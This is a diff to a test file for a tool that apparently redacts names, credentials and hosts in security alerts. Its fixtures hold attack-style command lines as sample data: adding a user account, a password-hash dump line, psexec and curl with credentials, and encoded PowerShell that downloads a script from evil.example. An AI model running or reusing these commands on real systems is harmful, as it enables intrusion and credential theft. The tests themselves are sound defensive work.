@@ -2,6 +2,7 @@
 
 import json
 import random
+from base64 import b64encode
 
 import pytest
 
@@ -57,6 +58,17 @@ PLANTED = [
     ("sudo: kim : TTY=pts/0 ; COMMAND=/bin/ls", ["kim"]),
     ("arn:aws:iam::111122223333:user/kim", ["kim"]),
     ("CN=Jane Doe,OU=Sales,DC=acme,DC=example", ["Jane", "Sales", "acme"]),
+    (r"net use \\fs01\share /user:CORP\jdoe Tr0ub4dor", ["CORP", "jdoe", "Tr0ub4dor"]),
+    (r"net use x: \\fs01\share Tr0ub4dor /user:jdoe & net user svc Canary12! /add", ["Tr0ub4dor", "Canary12"]),
+    ("mysql -u root -pCanary1 | psexec -u adm -p Canary2! | curl -u alice:canary3 https://x.example", ["Canary1", "Canary2", "canary3"]),
+    ("aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG", ["wJalrXUtnFEMI"]),
+    ("ConvertTo-SecureString 'Canary!' -AsPlainText; AccountName=x;AccountKey=Y2FuYXJ5", ["Canary!", "Y2FuYXJ5"]),
+    ("https://app.example/cb?sig=canary1%3D&code=canary2", ["canary1", "canary2"]),
+    ("jdoe:1001:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::", ["aad3b435", "31d6cfe0"]),
+    ("New Logon: Account Name: h.mueller Workstation Name: WS-0042", ["h.mueller", "WS-0042"]),
+    ("CEF:0|a|b|1|1|c|5|suser=jdoe shost=LAPTOP-77 dhost=SRV-1", ["jdoe", "LAPTOP-77", "SRV-1"]),
+    ("http://jira:8080/browse and https://wiki/x", ["jira", "wiki"]),
+    ("powershell -enc " + b64encode("curl -u bob:hunter2 http://10.9.8.7".encode("utf-16-le")).decode(), ["YwB1AHIAbAAg"]),
     ("server SRV-DB-01 and host ws17 talk; ip-10-1-2-3 too", ["SRV-DB-01", "ws17", "10-1-2-3"]),
 ]
 
@@ -82,6 +94,7 @@ def test_what_the_model_needs_stays() -> None:
         "sha256 " + "a" * 64,
         "T1059.001 on Windows 10.0.19045",
         "schtasks /create /tn Updater and/or powershell -enc AAAA",
+        "nmap -p 1-1024,8080 evil.example; docker run -p 8080:80 x; mkdir -p /tmp",
         "CVE-2021-44228 in System.Net.WebClient",
         "2001:4860:4860::8888",
         "The user account was created and the user logged on to host=evil.example",
@@ -109,6 +122,29 @@ def test_names_that_fields_give_are_hidden_wherever_they_stand() -> None:
     back = hidden.restore_json(hidden.hide_json(alert))
     assert back["title"] == alert["title"]
     assert back["raw"]["list"] == alert["raw"]["list"]
+
+
+def test_a_pair_of_name_and_value_is_the_field_that_it_names() -> None:
+    alert = {
+        "headers": [
+            {"name": "Cookie", "value": "SESS=canary"},
+            {"name": "X-Auth-Token", "value": "canary"},
+            {"name": "Host", "value": "evil.example"},
+        ],
+        "EventData": {"Data": [{"@Name": "TargetUserName", "#text": "k.schmidt"}, {"@Name": "WorkstationName", "#text": "WS-SCHMIDT"}]},
+        "hosts": [{"name": "prod-web-9"}],
+        "message": json.dumps({"user": {"name": "karl.heinz"}, "note": "k.schmidt"}),
+    }
+    hidden = Hidden(alert)
+    sent = json.dumps(hidden.hide_json(alert))
+    for value in ("canary", "schmidt", "SCHMIDT", "prod-web-9", "karl.heinz"):
+        assert value not in sent, sent
+    assert hidden.restore_json(hidden.hide_json(alert)) == alert
+
+
+def test_text_in_base64_that_holds_nothing_of_ours_stays() -> None:
+    plain = "powershell -enc " + b64encode("iwr https://evil.example/a.ps1".encode("utf-16-le")).decode()
+    assert Hidden(plain).hide(plain) == plain
 
 
 def test_well_known_names_and_public_hosts_are_no_secret() -> None:
